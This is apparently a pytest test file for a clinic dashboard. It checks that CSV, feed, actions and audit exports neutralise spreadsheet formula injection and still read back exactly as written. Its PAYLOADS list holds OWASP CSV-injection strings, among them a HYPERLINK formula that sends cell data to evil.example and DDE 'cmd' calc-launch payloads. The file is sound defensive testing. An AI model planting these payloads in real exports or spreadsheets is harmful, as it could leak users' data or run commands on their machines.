"""Every CSV the app writes is safe to open in a spreadsheet: text that would run as a formula is neutralised,
numbers stay numbers, and the app's own readers get back exactly what was written.

The payloads are OWASP's ("CSV Injection"): cells starting with =, +, -, @, tab or carriage return.
"""
from __future__ import annotations

import csv
import io
import time

import pandas as pd
import pytest

from dashboard.auth import AuthError, audit_log, record, verify
from devices.feed import read_actions
from dashboard.engine import load_config
from dashboard.service.ingest import Ingest
from dashboard.reports.exports import export_session
from dashboard.store import Store
from dashboard.ui.admin import audit_csv
from devices.csv_safety import FORMULA_STARTS, plain_cell, safe_cell
from devices.feed import read_feed, write_feed
from devices.readings import Reading, SessionEvent

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
CONFIG = load_config()


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_formula_becomes_text_and_reads_back_whole(text):
    cell = safe_cell(text)
    assert cell == "'" + text and not cell.startswith(FORMULA_STARTS) and plain_cell(cell) == text


@pytest.mark.parametrize("value", [-5, -0.5, 3.25, 0, "-5", "-0.5", "+3e2", "-.5", "1E-3", "", "note", "Chair 1"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


def test_an_apostrophe_is_kept_through_the_round_trip():
    for text in ("'quoted'", "''", "'=1", "-", "--", "+", "@"):
        assert plain_cell(safe_cell(text)) == text and not safe_cell(text).startswith(FORMULA_STARTS)


def _cells(content: bytes | str) -> list[list[str]]:
    text = content.decode() if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text)))


def _assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # only a plain number may start so


@pytest.fixture
def hostile_session(tmp_path):
    """A session whose note, device label and people's names are formulas, with a reading before the start."""
    store = Store.open(tmp_path / "clinic.db")
    sid = store.create_session(chair="Chair 1", patient_label="P-1", protocol="esketamine-84",
                               started_at=time.time() - 600)
    ingest = Ingest(store, CONFIG)
    ingest.refresh()
    ingest.submit("Chair 1", [SessionEvent("session_start", "esketamine-84", offset_s=0),
                              Reading("@SUM(1)", sbp=130, dbp=80, hr=70, offset_s=60),
                              SessionEvent("dose_start", "84 mg", offset_s=120),
                              SessionEvent("note", PAYLOADS[0], offset_s=180)])
    ingest.step()
    store.submit_action(sid, "acknowledge", PAYLOADS[2], detail="bp.check_due")
    store.submit_action(sid, "audio_pause", "=cmd", detail="120")
    ingest.step()
    yield store, sid
    store.close()


def test_the_session_csv_export(hostile_session):
    store, sid = hostile_session
    rows = _cells(export_session(store, CONFIG, sid, "csv").content)
    _assert_inert(rows)
    assert "'" + PAYLOADS[0] in {cell for row in rows for cell in row}
    frame = pd.read_csv(io.BytesIO(export_session(store, CONFIG, sid, "csv").content))
    assert pd.api.types.is_numeric_dtype(frame["offset_s"]) and pd.api.types.is_numeric_dtype(frame["sbp"])


def test_the_feed_export_and_the_recorder_rows_read_back_as_written(hostile_session, tmp_path):
    store, sid = hostile_session
    content = export_session(store, CONFIG, sid, "feed").content
    _assert_inert(_cells(content))
    feed = read_feed(io.StringIO(content.decode()))
    assert feed.problems == []
    notes = [e.detail for e in feed.items if isinstance(e, SessionEvent) and e.kind == "note"]
    assert notes[0] == PAYLOADS[0]  # as written (then the export's own note: the session was still open)
    assert [r.source for r in feed.items if isinstance(r, Reading)] == ["@SUM(1)"]
    early = [SessionEvent("session_start", "iv-ketamine", offset_s=0), Reading("nibp", sbp=120, dbp=80, offset_s=-30.5)]
    path = tmp_path / "feed.csv"
    write_feed(sorted(early, key=lambda i: i.offset_s), path)
    assert "-30.5,nibp" in path.read_text()  # a negative offset stays a number


def test_the_actions_export_reads_back_in_check(hostile_session, tmp_path):
    store, sid = hostile_session
    content = export_session(store, CONFIG, sid, "actions").content
    _assert_inert(_cells(content))
    path = tmp_path / "actions.csv"
    path.write_bytes(content)
    events, problems = read_actions(path)
    assert problems == [] and {e.who for e in events} == {PAYLOADS[2], "=cmd"}


def test_the_audit_export(tmp_path):
    store = Store.open(tmp_path / "clinic.db")
    with pytest.raises(AuthError):
        verify(store, PAYLOADS[0], "whatever-password", remote="10.1.1.1")
    record(store, "=cmd", "note", detail=PAYLOADS[3], session_id=7)
    rows = _cells(audit_csv(store))
    _assert_inert(rows)
    assert rows[0] == ["at", "who", "role", "action", "detail", "remote", "session_id"]
    assert ["'" + PAYLOADS[0], "login_failed"] == rows[1][1:2] + rows[1][3:4] and rows[2][6] == "7"
    assert [r["who"] for r in audit_log(store)] == ["=cmd", PAYLOADS[0]]  # the log itself keeps what happened
